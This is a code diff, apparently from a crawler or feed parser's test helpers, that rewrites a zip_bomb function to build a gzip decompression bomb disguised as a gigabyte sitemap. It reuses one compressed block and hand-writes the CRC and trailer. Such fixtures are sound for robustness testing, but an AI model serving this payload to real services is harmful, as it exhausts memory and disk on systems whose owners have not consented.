@@ -94,12 +94,17 @@ def blowup(root: str, entry: str) -> bytes:
 
 
 def zip_bomb(size: int = 1024 * MB) -> bytes:
-    """Give a gzip file that unpacks to a sitemap of `size` bytes."""
-    packer = zlib.compressobj(9, wbits=31)
-    packed = packer.compress(b"<urlset><!--")
+    """Give a gzip file that unpacks to a sitemap of `size` bytes and a few."""
+    opening, blanks = b"<urlset><!--", b" " * MB
+    packer = zlib.compressobj(9, wbits=-15)
+    packed = packer.compress(opening) + packer.flush(zlib.Z_FULL_FLUSH)
+    # Flushed so, equal pieces are packed to equal bytes: one is packed for all.
+    piece = packer.compress(blanks) + packer.flush(zlib.Z_FULL_FLUSH)
+    check = zlib.crc32(opening)
     for _ in range(size // MB):
-        packed += packer.compress(b" " * MB)
-    return packed + packer.flush()
+        check = zlib.crc32(blanks, check)
+    header, trailer = b"\x1f\x8b\x08" + bytes(7), struct.pack("<II", check, (len(opening) + size) % 2**32)
+    return header + packed + piece * (size // MB) + packer.flush() + trailer
 
 
 RSS_ITEM = (
